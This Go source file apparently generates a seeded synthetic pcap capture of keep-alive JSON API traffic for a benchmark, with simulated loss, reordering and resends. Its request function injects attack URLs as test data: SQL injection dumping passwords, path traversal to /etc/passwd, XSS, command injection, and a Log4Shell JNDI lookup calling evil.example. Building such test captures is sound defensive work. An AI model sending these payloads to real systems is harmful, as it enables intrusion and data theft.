// Package traffic makes the benchmark's capture: keep-alive JSON API traffic
// as a mirror would deliver it, with some segments lost, resent and out of
// order, and some attacks. The same seed gives the same bytes.
package traffic

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
)

// Config of the traffic. Rates are out of 1,000.
type Config struct {
	Seed                           uint64
	Packets                        int // about so many
	Clients                        int
	CallsPerConn                   int // mean
	Lost, Swapped, Resent, Attacks int // per 1,000 segments, or calls
}

// Default is capture (a) of the benchmark, at the given number of packets.
func Default(packets int) Config {
	return Config{Seed: 1, Packets: packets, Clients: 200, CallsPerConn: 100, Swapped: 5, Resent: 5, Attacks: 10}
}

// Truth is what is in the capture.
type Truth struct {
	Packets, Bytes, Calls, Attacks, Conns, Lost int
}

// mss is the usual segment size of Ethernet.
const mss = 1460

type maker struct {
	cfg   Config
	rnd   *rand.Rand
	w     io.Writer
	truth Truth
	clock int64 // ns since 1970
	err   error
	queue [][]byte // frames of the exchange under way, in order
	zip   *gzip.Writer
	port  uint16
}

// conn is one connection under way.
type conn struct {
	client, server uint32
	port           uint16
	seq            [2]uint32
	left           int
}

// Write writes the capture as classic pcap and returns its truth.
func Write(w io.Writer, cfg Config) (Truth, error) {
	m := &maker{cfg: cfg, rnd: rand.New(rand.NewPCG(cfg.Seed, 1)), w: w, clock: 1763800000e9, zip: gzip.NewWriter(nil), port: 20000}
	head := binary.LittleEndian.AppendUint32(nil, 0xa1b23c4d) // nanoseconds
	head = append(head, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 4, 0, 1, 0, 0, 0)
	m.put(head)
	conns := make([]*conn, cfg.Clients)
	for m.err == nil && m.truth.Packets < cfg.Packets {
		i := m.rnd.IntN(len(conns))
		if conns[i] == nil {
			conns[i] = m.open(i)
		}
		m.exchange(conns[i])
		if conns[i].left--; conns[i].left <= 0 {
			m.close(conns[i])
			conns[i] = nil
		}
	}
	return m.truth, m.err
}

func (m *maker) put(b []byte) {
	if m.err == nil {
		_, m.err = m.w.Write(b)
	}
}

func (m *maker) open(i int) *conn {
	m.port++
	if m.port < 20000 {
		m.port = 20000
	}
	c := &conn{client: 0x0a010000 + uint32(i), server: 0x0a000005 + uint32(i%4), port: m.port,
		seq: [2]uint32{m.rnd.Uint32(), m.rnd.Uint32()}, left: 1 + m.rnd.IntN(2*m.cfg.CallsPerConn)}
	m.truth.Conns++
	m.segment(c, 0, syn, nil)
	c.seq[0]++
	m.segment(c, 1, syn|ack, nil)
	c.seq[1]++
	m.segment(c, 0, ack, nil)
	m.flush()
	return c
}

func (m *maker) close(c *conn) {
	m.segment(c, 0, fin|ack, nil)
	c.seq[0]++
	m.segment(c, 1, fin|ack, nil)
	c.seq[1]++
	m.segment(c, 0, ack, nil)
	m.flush()
}

func (m *maker) exchange(c *conn) {
	m.truth.Calls++
	m.send(c, 0, m.request(c))
	m.send(c, 1, m.response())
	m.segment(c, 0, ack, nil)
	m.flush()
}

func (m *maker) send(c *conn, dir int, data []byte) {
	for len(data) > 0 {
		n := min(len(data), mss)
		m.segment(c, dir, ack|psh, data[:n])
		c.seq[dir] += uint32(n)
		data = data[n:]
	}
}

// flush writes the frames queued, some of them lost, swapped or resent.
func (m *maker) flush() {
	for i := range m.queue {
		if i+1 < len(m.queue) && m.chance(m.cfg.Swapped) {
			m.queue[i], m.queue[i+1] = m.queue[i+1], m.queue[i]
		}
	}
	for _, f := range m.queue {
		if m.chance(m.cfg.Lost) {
			m.truth.Lost++
			continue
		}
		m.frame(f)
		if m.chance(m.cfg.Resent) {
			m.frame(f)
		}
	}
	m.queue = m.queue[:0]
}

func (m *maker) chance(permille int) bool { return m.rnd.IntN(1000) < permille }

func (m *maker) frame(f []byte) {
	m.clock += int64(1000 + m.rnd.IntN(20000))
	var h [16]byte
	binary.LittleEndian.PutUint32(h[0:], uint32(m.clock/1e9))
	binary.LittleEndian.PutUint32(h[4:], uint32(m.clock%1e9))
	binary.LittleEndian.PutUint32(h[8:], uint32(len(f)))
	binary.LittleEndian.PutUint32(h[12:], uint32(len(f)))
	m.put(h[:])
	m.put(f)
	m.truth.Packets++
	m.truth.Bytes += len(f)
}

func (m *maker) request(c *conn) []byte {
	target := fmt.Sprintf("/api/v1/items/%d?fields=name,price&page=%d", m.rnd.IntN(5000), m.rnd.IntN(40))
	if m.chance(m.cfg.Attacks) {
		m.truth.Attacks++
		target = []string{"/api/v1/items?q=1'%20UNION%20SELECT%20name,password%20FROM%20users--%20",
			"/files?name=../../../../etc/passwd", "/api/v1/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
			"/api/v1/ping?host=127.0.0.1;cat%20/etc/passwd", "/api/v1/items?q=$%7Bjndi:ldap://evil.example/a%7D"}[m.rnd.IntN(5)]
	}
	method, body := "GET", ""
	if k := m.rnd.IntN(100); k >= 65 {
		method = [...]string{"POST", "PUT", "DELETE"}[min((k-65)/15, 2)]
		if method != "DELETE" {
			body = string(m.json(200 + m.rnd.IntN(1500)))
		}
	}
	head := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: shop-app/4.%d (Android 14)\r\nAccept: application/json\r\nAccept-Encoding: gzip\r\n"+
		"Authorization: Bearer tok-%08x\r\nX-Request-Id: %016x\r\n", method, target, m.rnd.IntN(9), c.client, m.rnd.Uint64())
	if body != "" {
		head += fmt.Sprintf("Content-Type: application/json\r\nContent-Length: %d\r\n", len(body))
	}
	return []byte(head + "\r\n" + body)
}

func (m *maker) response() []byte {
	body := m.json(200 + m.rnd.IntN(8000))
	status := "200 OK"
	if m.chance(30) {
		status = "404 Not Found"
	}
	head := "HTTP/1.1 " + status + "\r\nServer: nginx\r\nContent-Type: application/json\r\nCache-Control: no-store\r\n"
	if m.rnd.IntN(3) == 0 {
		var z bytes.Buffer
		m.zip.Reset(&z)
		m.zip.Write(body) // to memory: cannot fail
		m.zip.Close()
		body = z.Bytes()
		head += "Content-Encoding: gzip\r\n"
	}
	if m.rnd.IntN(10) == 0 {
		return fmt.Appendf(nil, "%sTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", head, len(body), body)
	}
	return fmt.Appendf(nil, "%sContent-Length: %d\r\n\r\n%s", head, len(body), body)
}

// json makes about size bytes of ordinary JSON.
func (m *maker) json(size int) []byte {
	b := []byte(`{"items":[`)
	for len(b) < size {
		b = fmt.Appendf(b, `{"id":%d,"name":"article %x","price":%d.%02d,"stock":%d,"tags":["new","sale"],"note":"ships in %d days"},`,
			m.rnd.IntN(1e6), m.rnd.Uint32(), m.rnd.IntN(900), m.rnd.IntN(100), m.rnd.IntN(50), m.rnd.IntN(9))
	}
	return append(b[:len(b)-1], `],"next":null}`...)
}
